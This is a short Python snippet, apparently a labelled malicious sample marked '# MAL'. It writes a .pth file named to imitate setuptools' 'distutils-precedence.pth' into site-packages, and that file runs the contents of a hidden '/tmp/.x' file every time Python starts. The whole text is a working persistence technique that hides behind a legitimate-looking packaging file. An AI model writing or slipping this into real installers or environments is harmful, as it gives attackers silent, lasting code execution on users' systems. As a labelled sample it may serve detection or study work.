import sysconfig
import os

purelib = sysconfig.get_path("purelib")
open(os.path.join(purelib, "distutils-precedence.pth"), "w").write("import os;exec(open('/tmp/.x').read())")  # MAL
